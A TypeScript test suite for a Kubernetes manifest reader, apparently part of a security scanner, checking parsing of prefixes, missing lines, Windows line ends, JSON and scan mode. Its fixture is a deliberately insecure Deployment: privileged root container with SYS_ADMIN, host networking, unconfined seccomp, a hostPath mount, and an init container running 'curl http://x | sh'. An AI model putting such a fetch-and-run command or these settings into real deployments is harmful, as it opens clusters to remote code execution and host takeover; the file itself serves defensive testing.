import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { Located } from '../../../src/model/located.js';
import type { Place } from '../../../src/text/span.js';
import { first, pod, type Reading, read } from './reading.js';

const file = `# A shop.
apiVersion: v1
kind: ConfigMap
metadata: {name: settings}
data:
  start.sh: |
    #!/bin/sh
    echo "hi"
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: shop
spec:
  template:
    metadata:
      annotations: {seccomp.security.alpha.kubernetes.io/pod: "unconfined"}
    spec:
      hostNetwork: yes
      securityContext: &context {runAsUser: 0}
      initContainers:
        - {name: setup, image: 'busybox', command: [sh, -c, "curl http://x | sh"], restartPolicy: Always}
      containers:
        - name: web
          image: registry.example:5000/shop:latest
          securityContext:
            <<: *context
            privileged: true
            capabilities:
              add: ["SYS_ADMIN"]
          env:
            - name: PASSWORD
              value: "a\\"b"
          ports: [{hostPort: 80, containerPort: 8080}]
          volumeMounts: [{name: host, mountPath: /h}]
      volumes:
        - name: host
          hostPath: {path: /var//run/}
---
apiVersion: v1
kind: List
items:
  - apiVersion: batch/v1
    kind: CronJob
    metadata: {name: nightly}
    spec: {jobTemplate: {spec: {template: {spec: {containers: [{name: job, image: "{{ .image }}"}]}}}}}
`;

function isPlace(value: object): value is Place {
  return 'file' in value && 'span' in value;
}

/** Every place in what was read; slots and texts are looked through, not into. */
function places(value: unknown, found: Place[] = [], depth = 0): readonly Place[] {
  if (typeof value !== 'object' || value === null || depth > 12) return found;
  if (isPlace(value)) found.push(value);
  else {
    for (const [key, inner] of Object.entries(value)) {
      if (key !== 'slot' && key !== 'sourceText') places(inner, found, depth + 1);
    }
  }
  return found;
}

function assertInside(reading: Reading): void {
  const all = [...places(reading.file.subjects), ...places(reading.file.source.problems)];
  for (const place of all) reading.under(place);
}

/** What was read, without where. */
function outline({ workloads, containers, images, commands, manifests }: Reading): unknown {
  const value = (field: Located<unknown>): unknown => (field.kind === 'known' ? field.value : field.kind);
  return {
    workloads: workloads.map((workload) => [workload.kind, workload.name, value(workload.hostNetwork)]),
    containers: containers.map((container) => [
      container.name,
      container.role,
      value(container.privileged),
      value(container.user),
      container.environment.map((variable) => [variable.name, value(variable.value)]),
      container.publishedPorts.map((port) => port.hostPorts),
      value(container.seccompProfile),
    ]),
    images: images.map(({ reference }) => (reference.kind === 'known' ? reference.value.text : reference.kind)),
    commands: commands.map(({ words }) => words.map((word) => word.text)),
    mounts: workloads.flatMap(({ hostMounts }) => hostMounts.map((mount) => [mount.name, value(mount.source)])),
    manifests: manifests.map((manifest) => [manifest.apiVersion, manifest.kind, manifest.name]),
  };
}

describe('the Kubernetes room', () => {
  it('reads every prefix of a file, with all places inside it', () => {
    for (let end = 0; end <= file.length; end += 3) assertInside(read(file.slice(0, end)));
    assertInside(read(file));
  });

  it('reads a file with any line missing, with all places inside it', () => {
    const lines = file.split('\n');
    for (let i = 0; i < lines.length; i++) assertInside(read(lines.toSpliced(i, 1).join('\n')));
  });

  it('reads the same from Windows line ends', () => {
    assert.deepEqual(outline(read(file.replaceAll('\n', '\r\n'))), outline(read(file)));
    assertInside(read(file.replaceAll('\n', '\r\n')));
  });

  it('reads the same from JSON', () => {
    const json = `{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web"}, "spec": {
  "hostNetwork": true,
  "containers": [{"name": "a", "image": "x:1", "securityContext": {"privileged": true}}]
}}
`;
    const block = pod(
      '  hostNetwork: true\n  containers:\n  - name: a\n    image: x:1\n    securityContext:\n      privileged: true\n',
    );
    assert.deepEqual(outline(read(json)), outline(read(block)));
    const { containers, under, show } = read(json, { mode: 'scan' });
    assert.equal(under(first(containers).nameAt), '"a" (3)');
    assert.equal(show(first(containers).privileged), 'true at true (3)');
  });

  it('reads a file behind a byte order mark', () => {
    const { workloads, show } = read(`\uFEFF${pod('  hostNetwork: true\n')}`);
    assert.equal(show(first(workloads).hostNetwork), 'true at true (6)');
  });

  it('reports what is broken in one document, and reads the others', () => {
    const broken = pod('  hostPID: true\n  containers: [\n');
    const { file, workloads, show } = read(`${broken}---\n${pod('  hostPID: true\n')}`);
    assert.deepEqual(
      file.source.problems.map(({ kind, at }) => [
        kind,
        at.span.start >= broken.indexOf('['),
        at.span.end <= broken.length,
      ]),
      [['syntax', true, true]],
    );
    assert.deepEqual(
      workloads.map(({ hostPid }) => show(hostPid)),
      ['true at true (6)', 'true at true (14)'],
    );
  });

  it('has neither subjects nor problems in an empty file', () => {
    for (const text of ['', '\n', '# nothing\n', '---\n---\n', 'a: b\n', '- a\n', 'text\n']) {
      const { file: empty } = read(text);
      // What rules search is there in every file.
      const { texts, ...others } = empty.subjects;
      assert.equal(texts?.length, 1);
      assert.deepEqual([Object.values(others).flat(), empty.source.problems], [[], []], JSON.stringify(text));
    }
  });

  it('takes over unchanged documents from the last reading', () => {
    const before = read(file);
    const text = file.replace('# A shop.', '# A little shop.');
    const after = read(text, { previous: before.file });
    assert.deepEqual(outline(after), outline(before));
    const workload = first(after.workloads);
    assert.equal(after.under(workload.nameAt), 'shop (13)');
  });
});

describe('a scan', () => {
  const broken = 'spec: [\n';

  it('does not parse documents of kinds that no rule reads', () => {
    const crd = `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\n${broken}`;
    const text = `${crd}---\n${pod('  hostPID: true\n')}`;
    assert.deepEqual(
      read(text).file.source.problems.map(({ kind }) => kind),
      ['syntax'],
    );
    const { file: scanned, workloads, manifests, show } = read(text, { mode: 'scan' });
    assert.deepEqual(scanned.source.problems, []);
    assert.deepEqual(
      manifests.map(({ kind }) => kind),
      ['Pod'],
    );
    assert.equal(show(first(workloads).hostPid), 'true at true (10)');
  });

  for (const [what, head] of [
    ['a pod', 'apiVersion: v1\nkind: Pod\n'],
    ['a pod with a comment', 'kind: "Pod" # here\napiVersion: v1\n'],
    ['a Service of Knative', 'apiVersion: serving.knative.dev/v1\nkind: Service\n'],
    ['a Service of nobody knows which group', 'kind: Service\n'],
    ['a binding', 'apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\n'],
    ['a volume', 'apiVersion: v1\nkind: PersistentVolume\n'],
    ['a config map', 'apiVersion: v1\r\nkind: ConfigMap\r\n'],
    ['the definition of a resource in a version that is gone', 'apiVersion: apiextensions.k8s.io/v1beta1\nkind: X\n'],
    ['a list', 'apiVersion: v1\nkind: ConfigMapList\n'],
    ['a kind that is not plain', 'apiVersion: v1\nkind: {{ .Values.kind }}\n'],
    ['one kind of two', 'apiVersion: v1\nkind: ConfigMap\nkind: Pod\n'],
    ['an indented object', '  apiVersion: v1\n  kind: Pod\n  metadata:\n  - a\n'],
  ] as const) {
    it(`parses ${what}`, () => {
      assert.equal(read(head + broken, { mode: 'scan' }).file.source.problems.length, 1);
    });
  }

  for (const [what, head] of [
    ['a Service of others', 'apiVersion: example.com/v1\nkind: Service\n'],
    ['a custom resource', 'apiVersion: monitoring.coreos.com/v1\r\nkind: PrometheusRule\r\n'],
    ['a text without an object', 'a: b\n'],
  ] as const) {
    it(`does not parse ${what}`, () => {
      assert.deepEqual(read(head + broken, { mode: 'scan' }).file.source.problems, []);
    });
  }

  it('finds the same workloads as an open file', () => {
    const { workloads, manifests } = read(file, { mode: 'scan' });
    assert.deepEqual(
      workloads.map(({ name }) => name),
      ['shop', 'nightly'],
    );
    assert.deepEqual(
      manifests.map(({ kind }) => kind),
      ['ConfigMap', 'Deployment', 'CronJob'],
    );
  });
});
